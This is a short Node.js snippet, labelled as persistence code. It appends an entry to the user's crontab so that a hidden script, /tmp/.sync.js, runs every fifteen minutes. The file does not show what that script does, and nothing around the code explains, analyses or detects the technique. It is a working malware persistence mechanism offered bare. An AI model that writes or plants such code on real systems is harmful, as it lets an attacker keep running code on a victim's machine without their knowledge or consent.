// persistence: a crontab entry installed with execSync
const { execSync } = require('child_process');
let current = '';
try {
  current = execSync('crontab -l', { encoding: 'utf8' });
} catch {}
execSync('crontab -', { input: current + '*/15 * * * * node /tmp/.sync.js\n' });
